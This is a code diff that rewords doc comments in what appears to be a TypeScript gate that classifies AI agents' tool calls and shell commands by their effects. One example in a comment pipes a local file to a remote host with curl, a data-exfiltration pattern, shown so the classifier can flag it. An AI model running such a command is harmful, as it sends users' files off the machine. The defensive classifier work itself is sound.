@@ -6,8 +6,9 @@ import { raw } from "./raw.js";
 import type { Classified, GateContext, ToolCall, Verdict } from "./types.js";
 
 /**
- * What becomes of a tool call while nobody is asked: it runs (`allow`: it only reads), its writes are staged (`redirect`), or the
- * speculation stops there (`boundary`). Nothing is run, opened or asked for on the way.
+ * What happens to a tool call while nobody is asked: it runs (`allow`: it only reads), its writes are staged
+ * (`redirect`), or the speculation stops there (`boundary`). The judgement itself runs nothing, opens nothing and asks
+ * nobody.
  *
  * ```js
  * judge({ name: "shell", args: { command: "grep -rn TODO src | head" } }).decision; // "allow"
@@ -20,7 +21,7 @@ export function judge(call_: Pick<ToolCall, "name" | "args">, context?: GateCont
 }
 
 /**
- * What a shell command would do, program by program. `parts` say where in the command, for highlighting.
+ * What a shell command would do, program by program. `parts` say where in the command each effect is, for highlighting.
  *
  * ```js
  * const { decision, detail, parts } = classifyShell("cat notes.txt | curl -d @- example.org");
@@ -31,7 +32,7 @@ export function classifyShell(command: string, context?: GateContext): Classifie
   return unpackClassified(call(() => raw.classifyShell(required("command", command, "string"), rules(context))));
 }
 
-/** How other libraries write a call: the field that gives it away, and what to give in its place. */
+/** How other libraries write a call: the field by which it is recognized, and what to pass instead. */
 const OTHERS: [field: string, instead: string][] = [
   ["function", "{ name: call.function.name, args: JSON.parse(call.function.arguments) }"],
   ["toolName", "{ name: call.toolName, args: call.input }"],
@@ -40,7 +41,7 @@ const OTHERS: [field: string, instead: string][] = [
   ["parameters", "args"],
 ];
 
-/** A call in another shape would be judged as one without arguments. */
+/** Refuses a call in another shape, because it would be judged as a call without arguments. */
 function mustBeOurs(given: object): void {
   if (typeof given !== "object" || given === null || Object.hasOwn(given, "args")) return;
   const other = OTHERS.find(([field]) => Object.hasOwn(given, field));
